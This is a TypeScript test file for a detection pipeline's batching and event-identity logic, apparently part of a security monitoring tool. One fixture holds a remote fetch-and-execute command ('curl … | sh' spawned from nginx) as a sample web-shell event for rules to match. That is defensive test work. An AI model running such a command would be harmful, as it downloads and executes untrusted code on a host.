import { describe, expect, it } from "vitest";
import { prepareBatch } from "./prepare-batch";
import { shippedRuleSet } from "./test-support";

const ruleSet = shippedRuleSet();
const receivedAt = new Date("2026-11-09T12:00:00.000Z");

function process(parent: string, executable: string, commandLine: string) {
  return {
    "@timestamp": "2026-11-09T10:15:02.123Z",
    event: { kind: "event", category: ["process"], type: ["start"], action: "exec" },
    host: { name: "web01", os: { type: "linux" } },
    process: { executable, command_line: commandLine, parent: { executable: `/usr/sbin/${parent}`, name: parent } },
  };
}

describe("prepareBatch: which events get an identity", () => {
  const records = [
    { line: 1, value: process("nginx", "/bin/sh", "sh -c 'curl http://198.51.100.4/x | sh'") },
    { line: 2, value: process("systemd", "/usr/bin/logrotate", "logrotate /etc/logrotate.conf") },
    { line: 3, value: process("systemd", "/usr/bin/logrotate", "logrotate /etc/logrotate.conf") },
  ];

  it("identifies every event by default, and counts a repeated line once", () => {
    const batch = prepareBatch(records, ruleSet, receivedAt);
    expect(batch.accepted).toBe(3);
    expect(batch.events.map((e) => e.line)).toEqual([1, 2]);
    expect(batch.events.every((e) => /^sha256:[0-9a-f]{64}$/.test(e.key))).toBe(true);
  });

  it("with identify: matched, only events a rule matched carry a key (retention off stores no other)", () => {
    const batch = prepareBatch(records, ruleSet, receivedAt, { identify: "matched" });
    expect(batch.accepted).toBe(3);
    const shell = batch.events.find((e) => e.line === 1)!;
    expect(shell.matches.length + shell.candidates.length).toBeGreaterThan(0);
    expect(shell.key).toMatch(/^sha256:/);
    expect(batch.events.filter((e) => e.line !== 1).map((e) => e.key)).toEqual(["", ""]);
  });
});
